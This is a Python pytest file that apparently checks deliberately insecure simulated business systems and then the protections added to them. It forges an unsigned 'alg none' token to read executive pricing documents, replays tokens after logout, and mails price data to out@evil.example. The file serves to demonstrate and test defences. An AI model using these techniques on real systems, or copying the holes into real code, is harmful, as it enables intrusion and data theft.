"""The traditional systems over both transports: static keys, trusted user headers, the hand-rolled
bearer check, never-rotated refresh tokens, and each system's own log."""

from __future__ import annotations

import pytest

from actors.runtime.network import Transport
from actors.traditional.legacy_login import unsigned_token
from scenarios.traditional import start_traditional_cast
from scenarios.world import WORLDS_DIR, parse_world
from tests.actors.runtime.helpers import running_runtime

WORLD = parse_world((WORLDS_DIR / "sales-agent.toml").read_text(), source=str(WORLDS_DIR / "sales-agent.toml"))
BOTH = pytest.mark.parametrize("transport", [Transport.CHANNEL, Transport.HTTP])


@BOTH
async def test_static_key_reads_everything_and_a_named_user_narrows_it(transport: Transport) -> None:
    async with running_runtime(transport) as (runtime, nursery, _):
        cast = await start_traditional_cast(world=WORLD, runtime=runtime, nursery=nursery)
        everything = await cast.client("crm").get("/api/customers?limit=100")
        assert everything.status == 200
        total = everything.json()["total"]
        sarah = cast.client("crm", on_behalf_of=WORLD.person("sarah").email)
        narrowed = (await sarah.get("/api/customers?limit=1")).json()["total"]
        assert 0 < narrowed < total
        assert (await cast.client("crm", key="tk_wrong").get("/api/customers")).status == 401
        assert (await cast.client("crm", key=cast.shadow_key).get("/api/customers")).status == 200
        lines = cast.logs()["legacy-crm"]
        assert [line.status for line in lines] == [200, 200, 401, 200]
        assert lines[0].records == 100 and lines[0].principal.startswith("key:")
        assert not runtime.audit.store.entries()  # nothing reaches the platform audit log


@BOTH
async def test_login_tokens_outlive_logout_and_refresh_is_reusable(transport: Transport) -> None:
    async with running_runtime(transport) as (runtime, nursery, _):
        cast = await start_traditional_cast(world=WORLD, runtime=runtime, nursery=nursery)
        email = WORLD.person("sarah").email
        login = cast.client("login", keyless=True)
        tokens = (await login.form("/login", {"username": email, "password": cast.people_passwords["sarah"]})).json()
        assert (await login.form("/login", {"username": email, "password": "guess"})).status == 401
        assert (await cast.client("login", bearer=tokens["access_token"]).form("/logout", {})).status == 200
        replay = await cast.client("pricing", bearer=tokens["access_token"]).get("/prices")
        assert replay.status == 200  # still valid after logout, and accepted by another system
        for _ in range(2):
            assert (await login.form("/refresh", {"refresh_token": tokens["refresh_token"]})).status == 200


@BOTH
async def test_hand_rolled_check_takes_alg_none_and_the_deputy_reads_anyones_document(transport: Transport) -> None:
    async with running_runtime(transport) as (runtime, nursery, _):
        cast = await start_traditional_cast(world=WORLD, runtime=runtime, nursery=nursery)
        forged = unsigned_token({"sub": WORLD.person("john").email})
        read = await cast.client("docs", bearer=forged).get("/mcp/resources?uri=pricing://executive-discounts")
        assert read.status == 200 and read.json()["contents"][0]["uri"] == "pricing://executive-discounts"
        as_sarah = cast.client("docs", on_behalf_of=WORLD.person("sarah").email)
        assert (await as_sarah.get("/docs/pricing:-executive-discounts")).status in (403, 404)
        assert (await as_sarah.get("/docs/executive-discounts")).status == 403
        deputy = cast.client("docs", on_behalf_of=WORLD.person("john").email)
        assert (await deputy.get("/docs/executive-discounts")).status == 200
        bad = await cast.client("docs", bearer="a.b.c").get("/mcp/resources?uri=docs://proposals/templates")
        assert bad.status == 401


@BOTH
async def test_any_key_changes_prices_and_mails_anyone(transport: Transport) -> None:
    async with running_runtime(transport) as (runtime, nursery, _):
        cast = await start_traditional_cast(world=WORLD, runtime=runtime, nursery=nursery)
        change = await cast.client("pricing").put("/prices/AI-TRN-ENT", json={"price_eur": 1})
        assert change.status == 200 and cast.systems["pricing"].prices["AI-TRN-ENT"] == 1
        sent = await cast.client("mail").post("/send", json={"from": "a@x", "to": ["out@evil.example"],
                                                             "subject": "prices", "body": "..."})
        assert sent.status == 202 and cast.systems["mail"].sent[0]["to"] == ["out@evil.example"]
        assert (await cast.client("mail").post("/send", json={"to": []})).status == 400
        assert (await cast.client("pricing").put("/prices/AI-TRN-ENT", json={"price_eur": "x"})).status == 400


@BOTH
async def test_each_bolt_on_protection_changes_what_the_systems_answer(transport: Transport) -> None:
    from scenarios.traditional import Protections

    async with running_runtime(transport) as (runtime, nursery, _):
        cast = await start_traditional_cast(world=WORLD, runtime=runtime, nursery=nursery, protections=Protections(
            refuse_unsigned_tokens=True, crm_records_per_window=30, crm_approval_above_eur=100_000))
        forged = unsigned_token({"sub": WORLD.person("john").email})
        assert (await cast.client("docs", bearer=forged).get("/mcp/resources?uri=docs://proposals/templates")).status == 401
        assert (await cast.client("pricing", bearer=forged).get("/prices")).status == 401
        crm = cast.client("crm")
        statuses = [(await crm.get("/api/customers?limit=10")).status for _ in range(4)]
        assert statuses == [200, 200, 200, 429] and crm.records_received == 30
        big = await crm.post("/api/opportunities", json={"customer": "acme", "amount_eur": 450_000})
        small = await crm.post("/api/opportunities", json={"customer": "acme", "amount_eur": 5_000})
        assert (big.status, small.status) == (403, 201)
